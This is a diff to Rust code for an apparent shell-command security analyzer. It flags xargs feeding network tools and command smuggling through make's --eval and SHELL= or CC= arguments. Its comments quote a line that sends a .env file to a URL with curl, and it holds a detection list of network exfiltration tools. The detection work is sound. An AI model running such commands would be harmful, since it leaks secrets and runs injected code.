@@ -217,6 +217,11 @@ impl Analyzer {
                 j += 1;
             }
         }
+        // `echo .env | xargs -I{} curl -d @{} URL`: what it sends is named on its input.
+        const SENDERS: &[&str] = &["curl", "wget", "nc", "ncat", "scp", "rsync", "http", "sftp", "ftp", "socat"];
+        if args.get(j).is_some_and(|a| SENDERS.contains(&a.text.rsplit('/').next().unwrap_or(&a.text))) {
+            self.facts.unresolved.push("a network command whose arguments come from its input (xargs)".into());
+        }
         Next::At(j)
     }
 
@@ -299,6 +304,30 @@ impl Analyzer {
 
     /// `make -f - <<EOF`, `make -f /dev/stdin <<< 'all:; cmd'`: the recipes it is fed run.
     pub(super) fn make(&mut self, _name: &str, args: &[Arg], ctx: &mut CommandContext) {
+        // `make --eval='x: ; cmd' x`, `make SHELL='cmd'`, `make CC='cmd #'`: text on the
+        // command line that make runs itself.
+        for (at, a) in args.iter().enumerate() {
+            let t = a.text.as_str();
+            let eval = match t {
+                "-E" | "--eval" => args.get(at + 1).map(|v| v.text.clone()),
+                _ => t.strip_prefix("--eval=").map(str::to_owned),
+            };
+            if let Some(text) = eval {
+                for recipe in make_recipes(&text) {
+                    self.sub_string(&recipe, None, ctx.depth);
+                }
+            }
+            if let Some((var, value)) = t.split_once('=') {
+                if is_assignment(t) && value.contains(' ') && !var.starts_with('-') {
+                    self.sub_string(value, None, ctx.depth);
+                    if var == "SHELL" {
+                        self.facts
+                            .unresolved
+                            .push("make runs every recipe through a shell set on its command line".into());
+                    }
+                }
+            }
+        }
         let stdin_name = |t: &str| matches!(t, "-" | "/dev/stdin" | "/dev/fd/0" | "/proc/self/fd/0");
         let from_stdin = args
             .windows(2)
